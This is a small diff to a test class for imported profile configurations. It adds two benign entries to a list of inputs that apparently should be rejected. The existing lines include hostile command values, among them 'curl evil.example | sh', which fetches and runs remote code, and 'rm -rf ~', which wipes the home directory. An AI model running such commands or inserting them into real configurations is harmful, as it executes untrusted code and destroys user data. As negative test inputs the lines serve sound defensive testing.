@@ -30,6 +30,8 @@ class ImportedProfileTests {
         "{'workload':{'source':'command:curl evil.example | sh','grant':'jwt-bearer'}}",
         "{'workload':{'source':'command','command':'rm -rf ~','grant':'jwt-bearer'}}",
         "{'workload':{'source':'github','audience':'sts.example','grant':'jwt-bearer'}}",
+        "{'via':'work'}",
+        "{'oauth':{'via':'work'}}",
         "{'oauth':{'clientKey':'file:~/.keys/work'}}",
         "{'oauth':{'clientKey':'command:true'}}",
       })
